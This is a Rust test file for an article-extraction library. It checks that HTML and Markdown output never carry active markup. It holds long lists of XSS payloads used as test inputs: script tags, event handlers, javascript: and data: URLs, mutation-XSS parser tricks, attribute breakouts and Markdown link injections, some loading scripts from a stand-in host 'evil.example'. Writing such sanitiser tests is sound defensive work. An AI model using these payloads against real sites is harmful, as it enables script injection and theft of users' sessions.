//! What no page may make us print: a program, or mark-up of its own.
//!
//! Each attack stands in each place of an ordinary article. The HTML and the rendered Markdown are
//! read by a parser, twice, because some attacks only work once a browser has written the tree out
//! and read it again.

#[path = "common/output.rs"]
mod output;
#[path = "common/shown.rs"]
mod shown;

use output::{HTML_TAGS, check_tree};
use pulldown_cmark::{Event, Options, Parser, Tag};
use scraper::Html;
use shown::check_shown;
use unchaff::{Extraction, Extractor, Selection};

const BEFORE: &str =
    "It rained all night in the valley, and by the morning the lower road was gone.";
const AFTER: &str =
    "Nobody was hurt, the mayor said, but forty houses will be without power until the weekend.";

/// Places in an article, with `@` where the attack stands.
const PLACES: &[&str] = &[
    "@",
    "<p>The river @ rose.</p>",
    "<p>@ is what the sign at the bridge says, and nobody knows who wrote it.</p>",
    "<h2>The river @</h2>",
    "<h2>@</h2>",
    "<ul><li>@</li><li>The river @</li></ul>",
    "<ol><li>One<ul><li>@</li></ul></li></ol>",
    "<table><tr><td>Dam</td><td>@</td></tr><tr><td>@</td><td>4.1</td><td>@</td></tr></table>",
    "<blockquote><p>@</p><p>He said: @</p></blockquote>",
    "<pre>@</pre>",
    "<pre><code>if rain {\n@\n}</code></pre>",
    "<figure><img src=/a.jpg alt=Road><figcaption>The road @ (Photo: @)</figcaption></figure>",
    "<p><a href=/more>The river @ rose</a>, they said.</p>",
    "<p class=standfirst>@</p>",
];

/// Elements that our Markdown is rendered to.
const MARKDOWN_TAGS: &[&str] = &[
    "html",
    "head",
    "body",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "p",
    "ul",
    "ol",
    "li",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "blockquote",
    "pre",
    "code",
    "strong",
    "em",
    "a",
    "img",
];

fn story(inner: &str) -> String {
    page("", inner)
}

fn page(head: &str, inner: &str) -> String {
    format!(
        "<html><head><title>Rain | Echo</title>{head}</head><body><nav><a href=/>Home</a></nav>\
         <article><h1>Rain</h1><p>{BEFORE}</p>{inner}<p>{AFTER}</p></article></body></html>"
    )
}

#[track_caller]
fn check(page: &Extraction, source: &str) {
    check_twice(&page.html(), HTML_TAGS, source);
    let markdown = page.markdown();
    // Only what plays in the article has a link there.
    let is_linked = |event: &Event<'_>| match event {
        Event::Start(Tag::Link { dest_url, .. }) => {
            !page.players().iter().any(|it| without_controls(it.url()) == **dest_url)
        }
        event => matches!(event, Event::Start(Tag::Image { .. })),
    };
    assert!(!events(&markdown).any(|event| is_linked(&event)), "{markdown}\nfrom {source}");
    check_twice(&rendered(&markdown, source), MARKDOWN_TAGS, source);
    let linked = page.markdown_with(Selection::article());
    check_twice(&rendered(&linked, source), MARKDOWN_TAGS, source);
    check_shown(page, &markdown, source);
}

fn check_twice(html: &str, tags: &[&str], source: &str) {
    let once = Html::parse_document(html);
    check_tree(&once, tags, source);
    check_tree(&Html::parse_document(&once.html()), tags, source);
}

fn events(markdown: &str) -> Parser<'_> {
    Parser::new_ext(markdown, Options::ENABLE_TABLES)
}

/// The Markdown as HTML, where none of the page's may pass.
fn rendered(markdown: &str, source: &str) -> String {
    for event in events(markdown) {
        let is_foreign = matches!(
            event,
            Event::Html(_)
                | Event::InlineHtml(_)
                | Event::Rule
                | Event::HardBreak
                | Event::Start(Tag::HtmlBlock)
        );
        assert!(!is_foreign, "{event:?} in {markdown}\nfrom {source}");
    }
    let mut html = String::new();
    pulldown_cmark::html::push_html(&mut html, events(markdown));
    html
}

fn without_controls(address: &str) -> String {
    address.chars().filter(|c| !c.is_control()).collect()
}

fn shown(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;")
}

#[test]
fn markup_that_acts_is_not_printed() {
    for attack in MARKUP {
        for place in PLACES {
            let html = story(&place.replace('@', attack));
            let page = unchaff::extract(&html);
            assert!(page.text().contains(BEFORE), "{html}");
            check(&page, &html);
        }
    }
}

#[test]
fn heads_that_act_are_not_printed() {
    for attack in HEADS {
        let html = page(attack, "<p>See <a href=x>there</a>.<p><img src=y.jpg alt=Road>");
        check(&unchaff::extract(&html), &html);
        check(&Extractor::new().url("https://echo.example/rain").extract(&html), &html);
    }
}

#[test]
fn addresses_that_act_are_not_printed() {
    const ELEMENTS: &[&str] = &[
        "<p>See <a href=\"@\">there</a> and <A HREF='@'>here</A>.",
        "<figure><img src=\"@\" alt=Road><figcaption>The road.</figcaption></figure>",
        "<img data-src=\"@\" alt=Road>",
        "<img srcset=\"@ 1x, @ 2x\" alt=Road>",
        "<img src=\"@\" srcset=\"@ 900w\" data-srcset=\"@ 2000w\" alt=\"@\">",
        "<picture><source srcset=\"@\"><img alt=Road></picture>",
        "<video poster=\"@\" src=\"@\"><source src=\"@\"></video>",
        "<a href=\"@\"><img src=\"@\"></a>",
        "<form action=\"@\"><button formaction=\"@\">Go</button><input type=image src=\"@\"></form>",
        "<svg><a xlink:href=\"@\" href=\"@\"><text>there</text></a><use href=\"@\"/></svg>",
        "<math><mi href=\"@\" xlink:href=\"@\">there</mi></math>",
        "<iframe src=\"@\"></iframe><object data=\"@\"></object><embed src=\"@\">",
        "<blockquote cite=\"@\"><p>He said so.</p></blockquote>",
        "<p background=\"@\" style=\"background:url(@)\">There.",
    ];
    for address in ADDRESSES {
        let html = story(&ELEMENTS.concat().replace('@', address));
        let plain = unchaff::extract(&html);
        assert!(plain.text().contains(BEFORE), "{html}");
        check(&plain, &html);
        check(&Extractor::new().url("https://echo.example/rain").extract(&html), &html);
        let html =
            page(&format!("<base href=\"{address}\">"), "<p>See <a href='alert(1)'>there</a>.");
        check(&unchaff::extract(&html), &html);
    }
}

#[test]
fn strings_break_out_of_no_attribute() {
    for string in BREAKOUTS {
        for quote in ['"', '\''] {
            let value = string.replace(quote, if quote == '"' { "&#34;" } else { "&#39;" });
            let html = story(&format!(
                "<figure><img src={quote}/a.jpg?{value}{quote} alt={quote}{value}{quote} \
                 title={quote}{value}{quote}><figcaption>{text} (Photo: {text})</figcaption>\
                 </figure><p>See <a href={quote}/b?{value}{quote} title={quote}{value}{quote}>\
                 {text}</a>.</p>",
                text = shown(string)
            ));
            check(&unchaff::extract(&html), &html);
        }
    }
}

#[test]
fn text_that_looks_like_markup_stays_text() {
    for text in TEXTS.iter().chain(BREAKOUTS).chain(MARKUP).chain(ADDRESSES) {
        let html = story(&PLACES.concat().replace('@', &shown(text)));
        check(&unchaff::extract(&html), &html);
        let scraped = format!("Rain\n\n{BEFORE}\n{text}\n- {text}\n\n{AFTER}");
        check(&Extractor::new().extract_text(&scraped), &scraped);
    }
}

/// Mark-up that runs something, or that a parser reads in two ways.
const MARKUP: &[&str] = &[
    // Scripts.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/src=data:,alert(1)>",
    "<script\x0ctype=text/javascript>alert(1)</script >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script>'</p><img src=x onerror=alert(1)>'</script>",
    "<script><!--<script>alert(1)</script>--></script>",
    "</script><script>alert(1)</script>",
    "<script type=module>import '//evil.example/x.js'</script>",
    "<script type=\"text/x-template\"><img src=x onerror=alert(1)></script>",
    "<script>",
    // Handlers of events.
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//>",
    "<img src='x'onerror='alert(1)'>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=x:x onerror\n=\nalert(1)>",
    "<p onclick=alert(1)>The gauge rose</p>",
    "<b onmouseover=alert(1)>The gauge rose</b>",
    "<div onpointerenter=alert(1) style='position:fixed;inset:0'>The gauge rose</div>",
    "<a href=# onfocus=alert(1) autofocus tabindex=0>there</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>More</summary>There</details>",
    "<video autoplay onplay=alert(1)><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>There</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus><option>One</select>",
    "<p style='animation:x' onanimationstart=alert(1)>There</p>",
    "<x contenteditable onblur=alert(1)>There</x>",
    "<p/onclick=alert(1)>There",
    // Styles and frames.
    "<style>@import 'javascript:alert(1)';</style>",
    "<style><img src=\"</style><img src=x onerror=alert(1)>\">",
    "<p style=\"width:expression(alert(1))\">There</p>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=//evil.example/x.swf>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<applet code=x>There</applet>",
    "<portal src=javascript:alert(1)></portal>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=javascript:/x//>",
    // Foreign elements.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>there</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><desc><p onclick=alert(1)>There</p></desc></svg>",
    "<svg><title><style><a title=\"</title><img src=x onerror=alert(1)>\"></style></title></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1) />#x\" /></svg>",
    "<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<math><annotation-xml encoding=\"text/html\"><p onclick=alert(1)>There</p></annotation-xml></math>",
    "<math><annotation-xml encoding=application/xhtml+xml><svg><img src=x onerror=alert(1)></svg></annotation-xml></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>There</maction></math>",
    // Trees that change when they are written and read again.
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mtext><mglyph><style></math><img src onerror=alert(1)></style></mglyph></mtext></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\"></form>",
    "<svg></p><title><a id=\"</title><img src=x onerror=alert(1)>\">",
    "<svg><p><style><g title=\"</style><img src=x onerror=alert(1)>\">",
    "<math><mi><table><mi><style><img title=\"</style><img src=x onerror=alert(1)>\">",
    "<svg><font color=x><p title=\"</font><img src=x onerror=alert(1)>\">There",
    "<table><a href=x><tr><td><a href=y>there</table>",
    "<a href=/x><div><a href=/y onclick=alert(1)>there</a></div></a>",
    "<p><table><p><svg><b></p></table><img src=x onerror=alert(1)>",
    "<select><svg><style><img src=x onerror=alert(1)></style></svg></select>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    // Elements whose content is text for one parser and mark-up for another.
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "<title></title><img src=x onerror=alert(1)>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<noframes><img title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>",
    "<iframe><img title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<!--[if IE]><img src=x onerror=alert(1)><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    "<?php echo '<img src=x onerror=alert(1)>' ?>",
    "<!DOCTYPE x [<!ENTITY y \"<img src=x onerror=alert(1)>\">]>&y;",
    "</ p><img src=x onerror=alert(1)>",
    "<%00script>alert(1)</%00script>",
    "<s\u{0}cript>alert(1)</s\u{0}cript>",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
];

/// What a head may hold.
const HEADS: &[&str] = &[
    "<base href=javascript:alert(1)//>",
    "<base href=data:text/html,>",
    "<base href=\"java\nscript:alert(1)//\">",
    "<base href=vbscript:x><base href=https://echo.example/>",
    "<base href=file:///etc/>",
    "<base href=\"https://echo.example/&quot;><script>alert(1)</script>\">",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Content-Type content='text/html; charset=utf-7'>",
    "<meta property=og:title content='\"><script>alert(1)</script>'>",
    "<meta property=og:image content='javascript:alert(1)'>",
    "<meta name=author content='<img src=x onerror=alert(1)>'>",
    "<link rel=canonical href=javascript:alert(1)>",
    "</title><script>alert(1)</script><title>",
    "<script type=application/ld+json>{\"@type\":\"NewsArticle\",\"headline\":\"</p><script>alert(1)\",\"image\":{\"url\":\"javascript:alert(1)\",\"creditText\":\"<b onclick=alert(1)>Jo Ray</b>\"}}</script>",
    "<style></title><script>alert(1)</script></style>",
    "<noscript><img src=x onerror=alert(1)></noscript>",
];

/// Addresses that run something or read what is not theirs.
const ADDRESSES: &[&str] = &[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "  javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "java&#9;script:alert(1)",
    "java&Tab;script&NewLine;:alert(1)",
    "java&#x0A;script&colon;alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    "&#0000106avascript:alert(1)",
    "&#1;javascript:alert(1)",
    "\u{1}\u{2}javascript:alert(1)",
    "\u{1f}javascript:alert(1)",
    "javascript\u{0}:alert(1)",
    "java\u{ad}script:alert(1)",
    "\u{feff}javascript:alert(1)",
    "\u{200b}javascript:alert(1)",
    "\u{202e}javascript:alert(1)",
    "\u{a0}javascript:alert(1)",
    "\u{85}javascript:alert(1)",
    "\u{2028}javascript:alert(1)",
    "javascript&#58;alert(1)",
    "javascript&colon;alert(1)",
    "javascript://echo.example/%0aalert(1)",
    "javascript:/*--></title></style></textarea></script><svg onload=alert(1)>*/",
    "javascript:'<p>'%2balert(1)",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:image/svg+xml,<svg onload=alert(1)>",
    "data:,x",
    "blob:https://echo.example/1",
    "filesystem:https://echo.example/temporary/x",
    "file:///etc/passwd",
    "view-source:javascript:alert(1)",
    "jar:javascript:alert(1)!/",
    "feed:javascript:alert(1)",
    "intent://x#Intent;scheme=javascript;end",
    "ms-word:ofe|u|https://evil.example",
    "http://[bad",
    "https://echo.example/&quot;onclick=alert(1)//",
    "https://echo.example/'onclick=alert(1)//",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/x&quot;><script>alert(1)</script>",
    "x:y:javascript:alert(1)",
    "?javascript:alert(1)",
    "",
];

/// What would end an attribute or an element, if it were not escaped.
const BREAKOUTS: &[&str] = &[
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onerror=\"alert(1)",
    "' onerror='alert(1)",
    "` onerror=alert(1) `",
    "``onmouseover=alert(1)",
    "\"onerror=alert(1)//",
    "\"/><svg onload=alert(1)>",
    "--><img src=x onerror=alert(1)>",
    "]]><img src=x onerror=alert(1)>",
    "</figcaption></figure><script>alert(1)</script>",
    "</a></p></article><script>alert(1)</script>",
    "</pre></code><img src=x onerror=alert(1)>",
    "</title></style></textarea></noscript><img src=x onerror=alert(1)>",
    "&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;quot;&amp;gt;&amp;lt;script&amp;gt;",
    "&#34;&#62;&#60;script&#62;",
    "\u{2028}\"><b onclick=alert(1)>",
    "\\\"><img src=x onerror=alert(1)>",
    "=\"\"<>=`'",
    "&",
    "&lt",
    "&#x3c;b&#x3e;",
];

/// Text that is mark-up in Markdown.
const TEXTS: &[&str] = &[
    "[x](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "[x]( javascript:alert(1) 'y')",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)",
    "[x][y] and [y]",
    "[[x]](javascript:alert(1))",
    "[a[b]c](javascript:alert(1)) ]( [",
    "\\[x](javascript:alert(1))",
    "\\\\[x](javascript:alert(1))",
    "[x\\](javascript:alert(1))",
    "[^1]: note",
    "[ ] to do",
    "<javascript:alert(1)>",
    "<https://echo.example/x>",
    "<ann@echo.example>",
    "https://echo.example/_x_?a=*b*&copy=1",
    "<div>\n<img src=x onerror=alert(1)>\n</div>",
    "<!-- x -->",
    "<?x?>",
    "<!X>",
    "</p>",
    "a <b c",
    "`<script>alert(1)</script>`",
    "``` js",
    "```\n<script>alert(1)</script>\n```",
    "~~~\n<script>alert(1)</script>\n~~~",
    "````\n```\n````",
    "~ about",
    "~~gone~~",
    "a | b",
    "| a | b |\n| --- | --- |\n| c | d |",
    "a \\| b",
    "a \\\\| b \\",
    "--- | ---",
    "|",
    "# Rain",
    "#",
    "###",
    "# Rain #",
    "C #",
    "C ##",
    "F# \\#",
    "####### seven",
    "===",
    "---",
    "--",
    "-",
    "- - -",
    "-- -",
    "+",
    "+ one",
    "- one",
    "* one",
    "*",
    "***",
    "* * *",
    "___",
    "_ _ _",
    "1. one",
    "1) one",
    "1.",
    "12",
    "1234567890. one",
    "1.5 metres",
    "> He said",
    ">",
    ">>> x",
    "**bold** and *slant*",
    "**",
    "a*b*c",
    "snake_case_name and __init__",
    "_x_",
    "x\\",
    "\\",
    "\\\\",
    "\\*",
    "&lt;script&gt;",
    "&amp;lt;",
    "&#60;script&#62;",
    "&nbsp;",
    "&colon;",
    "$x$ and $$y$$",
    ":: note ::",
    "{#id .class}",
    "{{ 7*7 }}",
    "<%= 7*7 %>",
    "\"quoted\"",
    "(c) ... -- ''",
    "    four spaces",
    "\ttab",
    "x  ",
    "\u{200b}# x",
    "\u{ad}- x",
    "\u{feff}> x",
    "\u{202e}1. x",
];
